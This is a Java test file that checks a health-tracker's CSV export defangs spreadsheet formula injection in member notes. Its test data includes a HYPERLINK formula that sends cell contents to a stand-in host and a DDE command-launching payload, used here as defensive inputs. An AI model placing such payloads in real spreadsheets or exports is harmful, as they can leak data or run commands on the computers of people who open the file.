package org.upright.tracker.export;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.upright.kernel.BodyArea;
import org.upright.tracker.pain.PainRatingInput;
import org.upright.tracker.pain.PainRatingService;
import org.upright.tracker.testing.Members;

import java.io.StringReader;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** A note that a spreadsheet would run as a formula reaches the coach's CSV as plain text. */
@SpringBootTest
class MemberDataCsvFormulaTest {

    @Autowired
    MemberDataCsv csv;
    @Autowired
    PainRatingService ratings;
    @Autowired
    Members members;

    @Test
    void notesStartingWithFormulaCharactersGetALeadingApostrophe() throws Exception {
        long member = members.create();
        List<String> notes = List.of("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "=1+1\tx", "fine = not a formula");
        LocalDate day = MemberExportTest.TODAY.minusDays(10);
        for (int i = 0; i < notes.size(); i++) {
            ratings.save(member, new PainRatingInput(day.plusDays(i), 3, Set.of(BodyArea.LOW_BACK), notes.get(i)));
        }
        StringWriter out = new StringWriter();
        csv.write(member, out);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString())).getRecords();

        assertThat(rows).extracting(r -> r.get("note")).containsExactly("'" + notes.get(0), "'" + notes.get(1),
                "'" + notes.get(2), "'" + notes.get(3), "'" + notes.get(4), "fine = not a formula");
        assertThat(rows).extracting(r -> r.get("score")).containsOnly("3");
    }

    @Test
    void everyDangerousFirstCharacterIsCoveredAndOtherTextIsUntouched() {
        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
            assertThat(MemberDataCsv.neutralised(start + "x")).isEqualTo("'" + start + "x");
        }
        assertThat(MemberDataCsv.neutralised("")).isEmpty();
        assertThat(MemberDataCsv.neutralised("2026-03-14T08:00:00Z")).isEqualTo("2026-03-14T08:00:00Z");
        assertThat(MemberDataCsv.neutralised("a=b")).isEqualTo("a=b");
    }
}
